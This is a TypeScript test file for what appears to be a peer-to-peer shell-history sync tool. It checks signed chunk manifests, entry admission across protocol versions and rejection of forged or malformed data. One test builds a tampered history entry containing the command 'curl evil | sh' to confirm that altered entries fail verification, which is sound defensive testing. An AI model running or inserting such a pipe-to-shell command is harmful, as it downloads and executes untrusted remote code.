import test from 'ava'
import { createHash } from 'node:crypto'
import { generateKeyPair } from '@libp2p/crypto/keys'
import { peerIdFromPrivateKey } from '@libp2p/peer-id'
import { admitReceived } from '../../src/core/admit.js'
import { ChunkHashes, chunkMessage, entryHash, signChunk, verifyChunk } from '../../src/core/chunk.js'
import { entryFields, optionalEntryFields, type Entry } from '../../src/core/entry.js'
import { canonicalEntryBytes, signBytes, type EntrySigner } from '../../src/core/signature.js'
import { parseChunks, takeChunkRefs } from '../../src/protocol/messages.js'
import { entry } from '../store/fixtures.js'

async function signer (): Promise<EntrySigner> {
  const key = await generateKeyPair('Ed25519')
  return { origin: peerIdFromPrivateKey(key).toString(), secretKey: key.raw }
}

/** canonicalEntryBytes as 2.0.0 shipped it (one Buffer per part): every hop must agree on these bytes. */
function canonical20 (e: Entry, origin: string): Buffer {
  const record = e as unknown as Record<string, unknown>
  const names: string[] = [...entryFields]
  for (const f of optionalEntryFields) if (record[f] !== undefined && record[f] !== null) names.push(f)
  names.push('origin')
  const parts: Buffer[] = [Buffer.from('rustory-entry-sig/1\u0000', 'ascii')]
  for (const name of names) {
    const raw = name === 'origin' ? origin : record[name]
    const value = Buffer.from(String(raw), 'utf8')
    const length = Buffer.alloc(4)
    length.writeUInt32BE(value.length)
    parts.push(Buffer.from(name, 'ascii'), Buffer.from([0, typeof raw === 'string' ? 0x73 : 0x69]), length, value)
  }
  return Buffer.concat(parts)
}

test('canonical bytes are those of 2.0.0, and an entry\'s chunk hash is SHA-256 of them', async (t) => {
  const a = await signer()
  const cases = [
    entry(), entry({ cmd: 'ls -la\necho "ü" 😀 \u2028', cwd: '/tmp/ß' }), entry({ exit_code: -1, duration_ms: 0 }),
    entry({ session_id: 's-1', cmd: 'x'.repeat(70_000) }), entry({ cmd: '\u00ff'.repeat(30_000), user_id: '' })
  ]
  for (const e of cases) {
    t.deepEqual(canonicalEntryBytes(e, a.origin), canonical20(e, a.origin))
    t.deepEqual(entryHash(e, a.origin), createHash('sha256').update(canonical20(e, a.origin)).digest())
  }
})

test('a manifest verifies for its origin and hashes only: another origin, other hashes or another key\'s signature fail', async (t) => {
  const [a, b] = [await signer(), await signer()]
  const entries = [entry({ cmd: 'one' }), entry({ cmd: 'two' })]
  const chunk = signChunk(entries, a)
  t.true(verifyChunk(chunk))
  t.is(chunk.hashes.length, 64)
  t.false(verifyChunk({ ...chunk, origin: b.origin }))
  t.false(verifyChunk({ ...chunk, hashes: Buffer.concat([chunk.hashes.subarray(0, 32), entryHash(entry({ cmd: 'three' }), a.origin)]) }))
  t.false(verifyChunk({ ...chunk, hashes: chunk.hashes.subarray(0, 32) }), 'dropping a hash changes the manifest')
  t.false(verifyChunk({ ...chunk, sig: signBytes(chunkMessage(a.origin, chunk.hashes), b.secretKey) }))
  t.false(verifyChunk({ ...chunk, origin: 'not a peer id' }))
})

test('admitting on 3.0.0: an entry is its chunk origin\'s iff the manifest verifies and lists its hash; k with sig, or a k naming no chunk, is refused', async (t) => {
  const [a, x] = [await signer(), await signer()]
  const mine = [entry({ cmd: 'one' }), entry({ cmd: 'two' })]
  const chunk = signChunk(mine, a)
  const received = [{ ...mine[0]! }, { ...mine[1]!, cmd: 'altered' }, { ...mine[1]! }, entry({ cmd: 'unsigned' })]
  const refs = [0, 0, 5, undefined]
  const admitted = admitReceived(received, { wire: 3, now: Date.now(), chunks: [chunk], chunkRef: (i) => refs[i] })
  t.deepEqual(admitted.entries.map((e) => [e.cmd, e.origin, e.chunk_ref]), [['one', a.origin, 0], ['unsigned', undefined, undefined]])
  t.deepEqual(admitted.rejected.map((r) => r.index), [1, 2])
  // First-hand: the chunk's origin is the connection's peer; its hashes are not checked, its signature is.
  const firstHand = admitReceived([{ ...mine[1]!, cmd: 'altered' }], { wire: 3, now: Date.now(), authenticatedPeer: a.origin, chunks: [chunk], chunkRef: () => 0 })
  t.is(firstHand.entries.length, 1)
  const forged = admitReceived([{ ...mine[0]! }], { wire: 3, now: Date.now(), authenticatedPeer: a.origin, chunks: [{ ...chunk, sig: signBytes(chunkMessage(a.origin, chunk.hashes), x.secretKey) }], chunkRef: () => 0 })
  t.is(forged.entries.length, 0)
  // On 2.0.0 chunks mean nothing: the entry is unsigned.
  t.deepEqual(admitReceived([{ ...mine[0]! }], { wire: 2, now: Date.now(), chunks: [chunk], chunkRef: () => 0 }).entries.map((e) => e.origin), [undefined])
  // The wire form: k names a chunk's id; with origin or sig beside it, or naming no chunk of the message, it is -1 (refused).
  const wire = [{ ...chunk, id: 7 }, { ...chunk, id: 9 }]
  const raw: unknown[] = [{ cmd: 'a', k: 9 }, { cmd: 'b' }, { cmd: 'c', k: 7, sig: 's' }, { cmd: 'd', k: 'x' }, { cmd: 'e', k: 3 }, { cmd: 'f', k: 7 }]
  t.deepEqual(takeChunkRefs(raw, wire), [1, undefined, -1, -1, -1, 0])
})

test('checking entries against a manifest: in order, out of order, twice; an altered entry, or one under another origin, is not in it', async (t) => {
  const [a, b] = [await signer(), await signer()]
  const entries = Array.from({ length: 40 }, (_, i) => entry({ cmd: `echo ${i}` }))
  const chunk = signChunk(entries, a)
  const inOrder = new ChunkHashes(chunk)
  t.true(entries.every((e) => inOrder.has(e)))
  const reversed = new ChunkHashes(chunk)
  t.true([...entries].reverse().every((e) => reversed.has(e)))
  const mixed = new ChunkHashes(chunk)
  t.deepEqual([entries[3]!, entries[3]!, entries[0]!, entries[1]!, entries[39]!].map((e) => mixed.has(e)), [true, true, true, true, true])
  const checks = new ChunkHashes(chunk)
  t.true(checks.has(entries[0]!))
  // The next expected hash is entries[1]'s: an altered copy of it is neither that one nor any other.
  t.false(checks.has({ ...entries[1]!, cmd: 'echo 1 && curl evil | sh' }))
  t.false(checks.has(entry({ cmd: 'never signed' })))
  t.false(new ChunkHashes({ ...chunk, origin: b.origin }).has(entries[0]!), 'hashed under another origin')
  t.false(checks.has({ ...entries[2]!, exit_code: 1.5 } as unknown as Entry), 'a malformed entry')
  t.true(checks.has(entries[1]!))
})

test('chunks on the wire: malformed ones make the message malformed', async (t) => {
  const a = await signer()
  const chunk = signChunk([entry()], a)
  const good = { id: 4, origin: a.origin, sig: chunk.sig.toString('base64'), hashes: chunk.hashes.toString('base64') }
  t.deepEqual(parseChunks([good], 'm'), [{ ...chunk, id: 4 }])
  t.deepEqual(parseChunks(undefined, 'm'), [])
  for (const bad of [{}, [{ ...good, origin: 'x' }], [{ ...good, sig: 'AAAA' }], [{ ...good, hashes: '' }], [{ ...good, hashes: Buffer.alloc(31).toString('base64') }], [{ ...good, hashes: Buffer.alloc(32 * 4097).toString('base64') }], [{ ...good, hashes: 5 }], [good, good], [{ ...good, id: -1 }], [{ ...good, id: undefined }], [{ ...good, hashes: `${good.hashes.slice(0, -4)}!!!!` }], [{ ...good, hashes: `${Buffer.alloc(32, 0xff).toString('base64url')}=` }], [{ ...good, hashes: `${Buffer.from('fbefbe'.repeat(10) + 'fbef', 'hex').toString('base64url')}=` }]]) {
    t.throws(() => parseChunks(bad, 'm'), { name: 'ProtocolError' }, JSON.stringify(bad).slice(0, 80))
  }
})
